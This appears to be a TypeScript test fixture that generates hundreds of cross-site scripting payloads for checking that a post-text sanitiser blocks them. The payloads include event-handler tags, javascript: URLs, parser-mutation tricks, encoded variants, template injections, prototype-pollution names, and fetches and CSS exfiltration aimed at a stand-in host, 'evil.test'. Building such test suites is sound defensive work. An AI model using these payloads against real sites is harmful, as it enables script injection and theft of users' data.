import { countGraphemes } from "../../src/lib/text/graphemes";
import { normalizePost } from "../../src/lib/text/post-text";

/** Another site, to which no request may be sent. */
export const ELSEWHERE = "//evil.test";

/** Calls of an injected script, each of which the watcher notices. */
const calls = [
  "hit(1)",
  "alert(1)",
  "top.hit(2)",
  "hit`3`",
  "self['hit'](4)",
  "confirm(5)",
  "eval('hit(6)')",
  "[7].map(hit)",
  `import('${ELSEWHERE}')`,
  `open('${ELSEWHERE}')`,
  `location='${ELSEWHERE}'`,
  `fetch('${ELSEWHERE}')`,
  "Function('hit(8)')()",
  "setTimeout('hit(9)')",
  "prompt(10)",
];

/** The shortest injections, which other contexts contain. */
const cores = (call: string) => [
  `<script>${call}</script>`,
  `<img src onerror=${call}>`,
  `<svg onload=${call}>`,
];

/** Elements that run a handler by themselves, with the handler. */
const elements = [
  ["img", "src=x onerror"],
  ["svg", "onload"],
  ["video", "src=x onerror"],
  ["audio", "src onerror"],
  ["body", "onload"],
  ["input", "autofocus onfocus"],
  ["details", "open ontoggle"],
  ["iframe", "onload"],
  ["object", "data=x onerror"],
  ["style", "onload"],
  ["select", "autofocus onfocus"],
  ["textarea", "autofocus onfocus"],
  ["button", "popovertarget=x onclick"],
  ["a", "href=# onmouseover"],
  ["marquee", "onstart"],
  ["dialog", "open onfocusin"],
  ["div", "tabindex=1 onfocus"],
  ["custom-a", "autofocus tabindex=1 onfocus"],
  ["b", "onclick"],
  ["p", "onwheel"],
  ["q", "oncopy"],
  ["form", "onreset"],
  ["track", "default onload"],
  ["math", "ontouchend"],
  ["video", "onplay"],
  ["ol", "onscroll"],
] as const;

/** Spellings of a tag. */
const spellings: readonly ((name: string, attributes: string, call: string) => string)[] = [
  (name, attributes, call) => `<${name} ${attributes}=${call}>`,
  (name, attributes, call) => `<${name.toUpperCase()} ${attributes.toUpperCase()}="${call}">`,
  (name, attributes, call) => `<${name}/${attributes.replaceAll(" ", "/")}='${call}'/>`,
  (name, attributes, call) => `<${name}\t${attributes.replaceAll(" ", "\t")}\t=\t${call}\t>`,
  (name, attributes, call) => `<${name}\n${attributes}\n=${call}`,
  (name, attributes, call) => `<${name} ${attributes}=\`${call}\`></${name}>`,
  (name, attributes, call) => `<${name} x="<" ${attributes}=${entities(call, 16)}>`,
  (name, attributes, call) => `<<${name} ${attributes}=${call}//`,
];

/** Ends of the surrounding element or comment. */
const ends = [
  '">',
  "'>",
  "`>",
  "-->",
  "--!>",
  "</title>",
  "</textarea>",
  "</script>",
  "</style>",
  "]]>",
  "</noscript>",
  "</template>",
  "</svg>",
  "*/</style>",
  "\\'>",
  "</select>",
];

/** Ends of an attribute's value. */
const quotes = ['"', "'", "` ", " ", "&quot; ", '\\" ', "&#39; "];

const attributes = (call: string) => [
  `onmouseover=${call} `,
  `autofocus onfocus=${call} x=`,
  `style=background:url(${ELSEWHERE})`,
  `formaction=javascript:${call} `,
  `srcdoc=<svg/onload=${call}>`,
];

const schemes = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  "\u0001javascript:",
  "&#106;avascript:",
  "javascript&colon;",
  "javascript:%0a",
  "javascript://%0d",
  "vbscript:",
  "data:text/html,",
  "data:image/svg+xml,<svg/onload=",
  "blob:",
  "feed:javascript:",
  "view-source:javascript:",
];

/** Markup and texts that contain a URL. */
const links = (url: string) => [
  url,
  `<a href=${url}>x</a>`,
  `[x](${url})`,
  `https://h.example/?${url}`,
];

/** Elements that change how a parser reads what follows. */
const mutations = [
  (core: string) => `<svg><style><!--</style>${core}`,
  (core: string) => `<math><mtext><style></math>${core}`,
  (core: string) => `<svg></p><style><a id="</style>${core}">`,
  (core: string) => `<noscript><p title="</noscript>${core}">`,
  (core: string) => `<form><math></form><form>${core}`,
  (core: string) => `<template>${core}</template>`,
  (core: string) => `<svg><desc>${core}`,
  (core: string) => `<table><td>${core}`,
  (core: string) => `<select><option>${core}`,
  (core: string) => `<xmp></xmp>${core}`,
  (core: string) => `<math><mi xlink:href>${core}`,
  (core: string) => `<svg><title>${core}`,
  (core: string) => `<b><p></b>${core}`,
  (core: string) => `<plaintext>${core}`,
];

/** The same text in other encodings. */
const encodings = [
  (text: string) => entities(text, 10),
  (text: string) => entities(text, 16),
  (text: string) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text: string) => text.replaceAll("<", "&LT").replaceAll(">", "&GT"),
  (text: string) => encodeURIComponent(text),
  (text: string) => encodeURIComponent(text).replaceAll("%", "%25"),
  (text: string) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
  (text: string) => text.replaceAll("<", "\\x3c").replaceAll(">", "\\x3e"),
  (text: string) => text.replaceAll("<", "%c0%bc"),
  (text: string) => text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
  (text: string) => `data:text/html;base64,${btoa(text)}`,
  (text: string) => text.replaceAll("<", "＜").replaceAll(">", "＞"),
  (text: string) => text.replaceAll("<", "<\u200b"),
  (text: string) => text.replaceAll("<", "\u00ad<\u0301"),
  (text: string) => `\u202e${[...text].toReversed().join("")}`,
  (text: string) => text.replaceAll("<", "\\3c ").replaceAll(">", "\\3e "),
];

/** Payloads that end a string or a template of some language. */
const codes = [
  (call: string) => `';${call}//`,
  (call: string) => `";${call}//`,
  (call: string) => `'-${call}-'`,
  (call: string) => `\`\${${call}}\``,
  (call: string) => `\${${call}}`,
  (call: string) => `#{${call}}`,
  (call: string) => `{{${call}}}`,
  (call: string) => `{{{${call}}}}`,
  (call: string) => `{{$on.constructor("${call}")()}}`,
  (call: string) => `<%=${call}%>`,
  (call: string) => `{%print ${call}%}`,
  (call: string) => `[[${call}]]`,
  (call: string) => `@{${call}}`,
  (call: string) => `*{T(x).y(${call})}`,
  (call: string) => `{"x":"${call}"}`,
  (call: string) => `"}];${call};[{"`,
  (call: string) => `\u2028${call}\u2028//`,
  (call: string) => `*/${call}/*`,
  (call: string) => `\n${call}\n--x`,
  (call: string) => `\\u0022;${call}//`,
  (call: string) => `<!--${call}-->`,
  (call: string) => `<![CDATA[${call}]]>`,
  (call: string) => `<?xml ${call}?>`,
];

/** Elements that fetch, frame or redirect. */
const fetching = [
  `<base href=${ELSEWHERE}/>`,
  `<meta http-equiv=refresh content=0;url=${ELSEWHERE}>`,
  `<iframe src=${ELSEWHERE}></iframe>`,
  "<iframe srcdoc='<script>hit(1)</script>'>",
  `<object data=${ELSEWHERE}>`,
  `<embed src=${ELSEWHERE}>`,
  `<form action=${ELSEWHERE}><input name=q>`,
  `<link rel=stylesheet href=${ELSEWHERE}>`,
  `<script src=${ELSEWHERE}></script>`,
  `<script type=module>import"${ELSEWHERE}"`,
  `<img srcset=${ELSEWHERE}>`,
  `<img src=${ELSEWHERE}/x.png>`,
  `<video poster=${ELSEWHERE}>`,
  `<input type=image src=${ELSEWHERE}>`,
  `<body background=${ELSEWHERE}>`,
  `<svg><use href=${ELSEWHERE}#x>`,
  `<svg><image href=${ELSEWHERE}>`,
  "<svg><animate onbegin=hit(1) dur=1>",
  "<svg><set onend=hit(2) dur=1>",
  "<math href=javascript:hit(3)>x",
  "<svg><a xlink:href=javascript:hit(4)>x",
  `<a ping=${ELSEWHERE} href=/>x</a>`,
  `<frameset onload=hit(5)>`,
  `<link rel=prefetch href=${ELSEWHERE}>`,
];

/** Payloads for style sheets. */
const styles = [
  `<style>@import'${ELSEWHERE}'</style>`,
  `<style>*{background:url(${ELSEWHERE})}`,
  `x{background:url(${ELSEWHERE})}`,
  `<p style=background:url(${ELSEWHERE})>x`,
  "<p style=width:expression(hit(1))>x",
  "<p style=position:fixed;inset:0>x",
  `}@font-face{src:url(${ELSEWHERE})}`,
  `<style>input[value^=a]{color:url(${ELSEWHERE})}`,
  "<style>*{animation:x}</style><b onanimationend=hit()>",
];

const markdown = [
  "[x](javascript:hit(1))",
  `![x](${ELSEWHERE}/x.png)`,
  '![x](y"onerror="hit(2))',
  '[x](y "onclick=hit(3)")',
  "<javascript:hit(4)>",
  "[x]: javascript:hit(5)\n\n[x]",
  "`<img src onerror=hit(6)>`",
  "```html\n<script>hit(7)</script>\n```",
  "[<img src onerror=hit(8)>](/)",
  "*<b onclick=hit(9)>*",
  "| <svg onload=hit(10)> |",
];

/** Names with a meaning in a language or a library. */
const names = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "valueOf",
  "hasOwnProperty",
  "__defineGetter__",
  "__lookupSetter__",
  "constructor.prototype",
  "__proto__[onload]=hit(1)",
  "constructor[prototype][src]=x",
  '{"__proto__":{"onload":"hit(1)"}}',
  '{"$$typeof":"Symbol(react.element)"}',
  '{"type":"script","props":{}}',
  "dangerouslySetInnerHTML",
  '{"__html":"<svg onload=hit(1)>"}',
  "then",
  "undefined",
  "NaN",
  "[object Object]",
  "on:click={hit}",
  "v-on:click=hit(1)",
  "ng-init=hit(1)",
  "x-init=hit(1)",
  "@click=hit(1)",
  "hx-get=//evil.test",
];

function entities(text: string, base: 10 | 16): string {
  const sign = (letter: string) => (letter.codePointAt(0) ?? 0).toString(base);
  // Letters stay, because entities only would be too long for a name.
  return [...text]
    .map((letter) =>
      /[\w.]/.test(letter) ? letter : `&#${base === 16 ? "x" : ""}${sign(letter)};`,
    )
    .join("");
}

/** Interleaves lists, so that every part of the result has items of each. */
function interleave(lists: readonly (readonly string[])[]): string[] {
  const placed = lists.flatMap((list) =>
    list.map((text, at) => ({ text, at: (at + 0.5) / list.length })),
  );
  return placed.toSorted((one, other) => one.at - other.at).map(({ text }) => text);
}

function families(): string[][] {
  let turn = 0;
  const call = () => calls[(turn += 1) % calls.length] ?? "hit(0)";
  const core = (at: number) => cores(call())[at % 3] ?? "";
  return [
    elements.flatMap(([name, attribute]) =>
      spellings.map((spell) => spell(name, attribute, call())),
    ),
    ends.flatMap((end) => [0, 1, 2].map((at) => end + core(at))),
    quotes.flatMap((quote) => attributes(call()).map((attribute) => quote + attribute)),
    schemes.flatMap((scheme) => links(scheme + call())),
    mutations.flatMap((mutate) => [0, 1, 2].map((at) => mutate(core(at)))),
    encodings.flatMap((encode) => [0, 1, 2, 3].map((at) => encode(core(at)))),
    codes.flatMap((code) => [code(call()), code(call())]),
    fetching,
    fetching.map((text) => text.replaceAll(" ", "/").replaceAll("<", "</x><")),
    styles,
    markdown,
    names,
  ];
}

/** The text as the server saves it in a field of one line. */
export function toSingleLine(text: string): string {
  return normalizePost(text).split(/\s+/).join(" ");
}

/** All payloads: generated, the same in each run, all different. */
export const payloads: readonly string[] = [
  ...new Map(
    interleave(families()).map((text) => [toSingleLine(text).toLowerCase(), text]),
  ).values(),
];

/** Selects `count` payloads of at most `limit` characters, of all kinds. */
export function choosePayloads(limit: number, count: number): string[] {
  const fitting = payloads.filter((text) => countGraphemes(normalizePost(text)) <= limit);
  if (fitting.length < count) throw new Error(`Only ${fitting.length} scripts are so short.`);
  return Array.from(
    { length: count },
    (_, at) => fitting[Math.floor((at * fitting.length) / count)] ?? "",
  );
}
